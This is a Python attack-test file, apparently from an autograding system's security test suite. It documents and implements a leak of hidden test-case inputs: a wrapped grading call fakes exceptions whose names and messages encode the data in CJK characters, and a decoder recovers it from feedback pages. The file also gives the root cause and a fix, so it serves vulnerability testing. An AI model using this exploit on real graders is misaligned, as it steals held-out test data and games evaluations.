"""Pack the hidden cases' inputs into the verdicts, 15 bits a character: about 340 bytes per function and submission.

WON (class 5: what the kernel saw of the hidden cases reaches the student's feedback, far
more of it than docs/attacks.md's "a handful of recorded numbers" per cell).

Every function is the reference's (right for the visible checks, so that the hidden checks
run; none earns a point, as the grader never calls it). The kernel side's ``_cnn_grading_call`` is wrapped: each of the grader's
requests carries every hidden case of a check at once, and the wrapper, instead of calling the
function, answers that the first case raised an exception whose class name (60 characters)
and message (120) are the bytes of the cases' arrays, in order, 15 bits per character, written
as characters of the CJK Unified Ideographs Extension B (U+20000 to U+27FFF): letters, so
``\\W`` keeps them in the name; printable, so ``str.isprintable`` keeps them in the message.
The grader keeps 60 + 120 of them (grading/kernel_calls.py ``KernelCalls.outcome``, the kit's
``shown``); the feedback page shows them whole. 180 characters are 2,700 bits, 337 bytes: 42
float64 values per function and submission, exactly (zero_pad's are its expected outputs, its
input being the middle of its output). 8 functions: 2.7 kB per submission; all of part 1's
hidden inputs (about 30 kB) in a dozen. A test cell's visible checks (``TrustedExecute.plain``,
course.py ``plain_message``) keep 100 + 300 characters of an error raised there: 750 bytes
more per cell, at the cost of that cell's hidden checks.

Root cause: grading/kernel_calls.py ``KernelCalls.outcome`` and authoring/grading_kit.py
``shown`` keep any printable Unicode character, and an exception's type name (``re.sub(r"\\W")``
keeps Unicode letters); course_tools/course.py ``plain_message`` and grading/text.py
``printable`` escape only hidden characters. A fix: quote a student's text as ASCII only (each
other character escaped, and the escape counted in the cut), or, as docs/attacks.md says, the
type alone.

Reproduce:

    cp tests/attacks_pending/leak_inputs_dense.py tests/attacks/
    .venv/bin/python tests/attacks/_measure.py leak-inputs-dense
    rm tests/attacks/leak_inputs_dense.py

(or with CNN_ATTACKS=leak-inputs-dense through tests/test_attacks.py, which it passes: the hidden
inputs are not among the secrets it looks for) and decode a feedback page with ``decode_page``
below.
Without protection: the same, and longer messages.
"""
import re

EXPECT = set()
BASE_CODE_POINT = 0x20000

WRAP = r'''
import base64 as _ld_b64, json as _ld_json, numpy as _ld_np


def _ld_arrays(value):
    if isinstance(value, _ld_np.ndarray):
        yield value
    elif isinstance(value, (tuple, list)):
        for item in value:
            yield from _ld_arrays(item)
    elif isinstance(value, dict):
        for item in value.values():
            yield from _ld_arrays(item)


def _ld_pack(data, characters):
    bits = "".join(format(byte, "08b") for byte in data)[:15 * characters]
    return "".join(chr(0x20000 + int(bits[i:i + 15].ljust(15, "0"), 2)) for i in range(0, len(bits), 15))


def _cnn_grading_call(name, request):
    calls = _ld_json.loads(_ld_b64.b64decode(request))["calls"]
    data = b"".join(a.tobytes() for call in calls for a in _ld_arrays([_cnn_grading_decode(x) for x in call["args"]]))
    packed = _ld_pack(data, 180)
    reply = {"status": "raised", "ename": packed[:60], "evalue": packed[60:180]}
    return _ld_b64.b64encode(_ld_json.dumps({"status": "called", "replies": [reply]}).encode()).decode()
'''


APPEND = {"zero_pad": WRAP}


def decode_page(text):
    """{function: the bytes its verdict on the page carries}, from a feedback page's text."""
    found = {}
    for name, message in re.findall(r"<code>(\w+)</code></td>.*?<td>([^<]*)</td></tr>", text, re.S):
        characters = [c for c in message if BASE_CODE_POINT <= ord(c) < BASE_CODE_POINT + 2 ** 15]
        bits = "".join(format(ord(c) - BASE_CODE_POINT, "015b") for c in characters)
        found[name] = bytes(int(bits[i:i + 8], 2) for i in range(0, len(bits) - 7, 8))
    return found
